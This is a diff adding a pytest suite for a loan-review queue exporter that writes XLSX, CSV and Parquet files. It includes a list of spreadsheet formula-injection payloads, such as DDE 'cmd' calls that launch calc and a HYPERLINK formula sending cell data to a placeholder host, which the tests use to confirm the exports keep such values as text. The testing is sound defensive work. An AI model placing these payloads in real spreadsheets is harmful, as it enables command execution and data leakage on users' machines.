@@ -1,0 +1,247 @@
+"""What a committed night hands to people: a queue to work in, safe to open, the same bytes every time."""
+
+from __future__ import annotations
+
+import csv
+import json
+import time
+from datetime import date, timedelta
+
+import openpyxl
+import pyarrow.parquet as pq
+import pytest
+
+from linewatch.case import OUTCOME_REASONS, OUTCOMES, fingerprint
+from linewatch.errors import NotFound
+from tasks.export import export_night, export_queue
+from tasks.export.columns import COLUMNS
+from tests.tasks.decisions_fixture import AS_OF, committed_home, decrease, line
+
+pytestmark = pytest.mark.filterwarnings("ignore:Sparkline Group extension")
+
+HEAD = [column.name for column in COLUMNS]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid?x="&A1,"more")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "DDE",
+]
+
+
+def asked(facility_id, *triggers, **facts):
+    return decrease(facility_id, route="referred", triggers=list(triggers or ["large_decrease"]), **facts)
+
+
+def sheet_rows(path, sheet="Queue 队列"):
+    """The sheet as dicts by column name."""
+    book = openpyxl.load_workbook(path)
+    _, *rows = book[sheet].iter_rows(values_only=True)
+    return [dict(zip(HEAD, row, strict=True)) for row in rows]
+
+
+def csv_rows(path):
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory):
+    months = [
+        {
+            "facility_id": "F1",
+            "month": date(2026, month, 1),
+            "closing_balance_cents": 100_000 * month,
+            "limit_cents": 1_200_000,
+        }
+        for month in range(1, 11)
+    ]
+    lines = [
+        asked("F1", "large_decrease", "pd_near_edge"),
+        asked("F2", "project_line", borrower_id="B2", product="project", segment="project"),
+        line("F3", route="referred", triggers=["complaint_open"], grade=None, score=None, pd_bp=None),
+        decrease("F4"),
+        line("F5"),
+    ]
+    return committed_home(tmp_path_factory.mktemp("home"), lines, facility_month=months)
+
+
+def test_the_queue_holds_each_line_of_each_open_case_and_no_other(home):
+    rows = sheet_rows(export_queue(home, AS_OF, "xlsx").path)
+    assert [(row["priority"], row["facility_id"], row["kind"]) for row in rows] == [
+        (1, "F3", "interview"),
+        (2, "F1", "desk_review"),
+        (3, "F2", "site_visit"),
+    ]
+    shown = rows[1]
+    assert (shown["limit"], shown["proposed_limit"], shown["change"]) == (12_000, 8_000, -4_000)
+    assert (shown["score"], shown["pd"], shown["utilisation"]) == (520, 0.145, 0.25)
+    assert shown["due_on"].date() == date(2026, 11, 25)
+    assert "The decrease is large." in shown["why"]
+    assert "下调幅度较大。" in shown["why"]
+    assert shown["reasons"].startswith("Payments to us have been late.\n")
+    assert (rows[0]["grade"], rows[0]["score"], rows[0]["pd"]) == (None, None, None)
+
+
+def test_the_csv_says_the_same_with_plain_numbers(home):
+    path = export_queue(home, AS_OF, "csv").path
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    first = csv_rows(path)[1]
+    assert list(first) == HEAD
+    assert (first["limit"], first["change"], first["pd"]) == ("12000.00", "-4000.00", "0.1450")
+    assert first["triggers"] == "large_decrease; pd_near_edge"
+
+
+def test_the_parquet_queue_keeps_whole_cents(home):
+    rows = pq.read_table(export_queue(home, AS_OF, "parquet").path).to_pylist()
+    assert [row["facility_id"] for row in rows] == ["F3", "F1", "F2"]
+    assert rows[1]["limit_cents"] == 1_200_000
+
+
+def test_only_the_answers_can_be_written_and_they_come_from_lists(home):
+    book = openpyxl.load_workbook(export_queue(home, AS_OF, "xlsx").path)
+    sheet = book["Queue 队列"]
+    assert sheet.protection.sheet
+    assert sheet.freeze_panes == "D2"
+    assert sheet.auto_filter.ref
+    unlocked = {HEAD[cell.column - 1] for cell in sheet[2] if not cell.protection.locked}
+    assert unlocked == {"outcome", "new_limit", "outcome_reason", "note", "reviewer"}
+    lists = {
+        str(validation.sqref): validation.formula1
+        for validation in sheet.data_validations.dataValidation
+        if validation.type == "list"
+    }
+    assert set(lists.values()) == {f"lists!$A$1:$A${len(OUTCOMES)}", f"lists!$B$1:$B${len(OUTCOME_REASONS)}"}
+    assert [cell.value for cell in book["lists"]["A"]][: len(OUTCOMES)] == list(OUTCOMES)
+    assert {book["lists"].sheet_state, book["months"].sheet_state} == {"hidden"}
+
+
+def test_the_guide_explains_every_column_and_code_in_both_languages(home):
+    book = openpyxl.load_workbook(export_queue(home, AS_OF, "xlsx").path)
+    told = [[cell for cell in row if cell] for row in book["Guide 说明"].iter_rows(values_only=True)]
+    explained = {row[0] for row in told if len(row) == 3}
+    assert {f"{column.en} {column.zh}" for column in COLUMNS} <= explained
+    assert {*OUTCOMES, *OUTCOME_REASONS, "site_visit", "pd_near_edge", "late_payments"} <= explained
+
+
+def test_a_row_that_comes_back_changed_is_known_by_its_fingerprint(home):
+    row = sheet_rows(export_queue(home, AS_OF, "xlsx").path)[1]
+    batch = next((home / "batches").iterdir()).name
+    keys = (batch, row["case_id"], "F1")
+    assert row["fingerprint"] == fingerprint(*keys, 1_200_000, 800_000)
+    assert row["fingerprint"] != fingerprint(*keys, 1_200_000, 900_000)
+    assert fingerprint("a", "bc", "d", 1, 1) != fingerprint("a", "b", "cd", 1, 1)
+
+
+def test_a_team_gets_its_own_cases_and_a_limit_takes_the_first(home):
+    field = export_queue(home, AS_OF, "xlsx", team="field")
+    assert (field.path.name, field.cases, field.lines) == ("queue-field.xlsx", 1, 1)
+    two = export_queue(home, AS_OF, "csv", limit=2)
+    assert [row["facility_id"] for row in csv_rows(two.path)] == ["F3", "F1"]
+    assert two.path.name == "queue-2.csv"
+    assert export_queue(home, AS_OF, "parquet", limit=2).cases == 2
+
+
+@pytest.mark.parametrize("format", ["xlsx", "csv", "parquet"])
+def test_the_same_queue_has_the_same_bytes(home, format):
+    first = export_queue(home, AS_OF, format).path.read_bytes()
+    time.sleep(1.1 if format == "xlsx" else 0)
+    assert export_queue(home, None, format).path.read_bytes() == first
+
+
+def test_the_night_leaves_queue_and_drafts(home):
+    left = export_night(home, AS_OF)
+    letters = [json.loads(text) for text in left.drafts.read_text(encoding="utf-8").splitlines()]
+    assert [(letter["facility_id"], letter["kind"], letter["reason_codes"]) for letter in letters] == [
+        ("F4", "decrease", ["late_payments", "utilisation"])
+    ]
+    assert left.queue_xlsx == home / "out" / AS_OF.isoformat() / "queue.xlsx"
+    assert (left.queue_csv.exists(), left.lines, left.letters) == (True, 3, 1)
+
+
+@pytest.mark.parametrize(
+    ("asked_for", "what"),
+    [
+        ({"as_of": date(2020, 1, 1)}, "No night of 2020-01-01 is committed"),
+        ({"format": "pdf"}, "no format 'pdf'"),
+        ({"team": "legal"}, "no team 'legal'"),
+    ],
+)
+def test_what_is_not_there_is_refused_with_what_to_do_now(home, asked_for, what):
+    with pytest.raises(NotFound, match=what) as refused:
+        export_queue(home, **asked_for)
+    assert refused.value.exit_code == 2
+    assert refused.value.what_now
+
+
+def test_text_that_a_spreadsheet_would_run_stays_text(tmp_path):
+    lines = [
+        asked(formula, borrower_id=formula, segment=formula, limit_cents=1_000_000 + number)
+        for number, formula in enumerate(FORMULAS)
+    ]
+    home = committed_home(tmp_path, lines)
+    exported = openpyxl.load_workbook(export_queue(home, AS_OF, "xlsx").path)["Queue 队列"]
+    for row in exported.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+            assert cell.hyperlink is None
+    for row in csv_rows(export_queue(home, AS_OF, "csv").path):
+        for name in ("facility_id", "borrower_id", "segment"):
+            assert not row[name].lstrip().startswith(tuple("=+-@＝＋－＠"))
+        assert float(row["change"]) < 0
+        assert row["change"].startswith("-")
+
+
+def test_a_case_from_an_earlier_night_stays_in_the_queue_until_somebody_closes_it(tmp_path):
+    home = committed_home(tmp_path, [asked("F1"), asked("F2", borrower_id="B2")], as_of=date(2026, 10, 20))
+    before = export_queue(home, date(2026, 10, 20), "csv").path.read_bytes()
+    committed_home(home, [line("F1"), asked("F3", borrower_id="B3")], as_of=AS_OF)
+    rows = csv_rows(export_queue(home, AS_OF, "csv").path)
+    assert [(row["facility_id"], row["opened_on"], row["limit"]) for row in rows] == [
+        ("F1", "2026-10-20", "12000.00"),
+        ("F2", "2026-10-20", ""),
+        ("F3", "2026-11-20", "12000.00"),
+    ]
+    assert export_queue(home, date(2026, 10, 20), "csv").path.read_bytes() == before
+
+
+def test_money_has_the_digits_of_its_currency(tmp_path):
+    rates = [{"currency": "JPY", "rate_ppm": 50_000}, {"currency": "KWD", "rate_ppm": 23_000_000}]
+    home = committed_home(
+        tmp_path, [asked("yen", currency="JPY"), asked("dinar", currency="KWD")], fx_latest=rates
+    )
+    limits = {row["facility_id"]: row["limit"] for row in csv_rows(export_queue(home, AS_OF, "csv").path)}
+    assert limits == {"yen": "1200000", "dinar": "1200.000"}
+
+
+@pytest.mark.slow
+def test_ten_thousand_cases_are_exported_in_seconds(tmp_path):
+    months = [AS_OF.replace(day=1) - timedelta(days=31 * back) for back in range(1, 13)]
+    home = committed_home(
+        tmp_path,
+        [asked(f"F{number:05}", limit_cents=1_000_000 + number) for number in range(10_000)],
+        facility_month=[
+            {
+                "facility_id": f"F{number:05}",
+                "month": month.replace(day=1),
+                "closing_balance_cents": 5,
+                "limit_cents": 10,
+            }
+            for number in range(0, 10_000, 50)
+            for month in months
+        ],
+    )
+    start = time.perf_counter()
+    left = export_night(home, AS_OF)
+    took = time.perf_counter() - start
+    print(f"{left.lines} lines as XLSX and CSV in {took:.1f} s, {left.queue_xlsx.stat().st_size:,} bytes")
+    assert took < 30
